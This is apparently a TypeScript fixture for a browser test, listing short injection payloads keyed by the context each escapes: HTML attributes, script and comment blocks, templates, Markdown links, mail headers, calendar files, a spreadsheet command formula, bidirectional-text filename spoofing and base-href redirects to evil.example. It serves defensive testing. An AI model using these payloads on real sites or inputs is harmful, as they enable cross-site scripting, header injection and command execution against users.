/**
 * Texts that attackers paste into forms. If one of them runs, it calls `xss()`, which the browser test detects. Each is short
 * enough for the shortest name field; its key says what it would break out of.
 */
export const payloads = {
  "an attribute in double quotes": `"><script>xss()</script>`,
  "an attribute in single quotes": `'><img src=x onerror=xss()>`,
  "an attribute, without angle brackets": `x" onmouseover="xss()" style="background:url(//evil.example)`,
  "an element": "<svg/onload=xss()><x-attack>",
  "a link": "javascript:xss()",
  "a script": "</script><script>xss()</script>",
  "a title or a text area": `</title></textarea></noscript><iframe srcdoc="<script>parent.xss()</script>">`,
  "a comment": "--><!--><script>xss()</script><!--",
  "XML data": "]]><script xmlns='http://www.w3.org/1999/xhtml'>xss()</script><![CDATA[",
  "a second decoding": "&lt;script&gt;xss()&lt;/script&gt;&#60;img src=x onerror=xss()&#62;",
  "a template": "{{constructor.constructor('xss()')()}}<%= xss() %>",
  "a header": "x\r\nBcc: eve@evil.example\r\n\r\n<script>xss()</script>",
  "a calendar": "x;,\\nATTACH:http://evil.example\nEND:VEVENT\nBEGIN:VALARM\nACTION:AUDIO",
  "a spreadsheet": "=cmd|' /C calc'!A0",
  "the direction of writing": "\u202Egnp.<b onmouseover=xss()>exe\u2066",
  "a text in Markdown": "[x](javascript:xss()) ![x](https://evil.example/x.png) <javascript:xss()>",
  "the page's own address": `<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">`,
  "a line of a script": "\u2028xss()//\u2029',xss(),'",
} as const
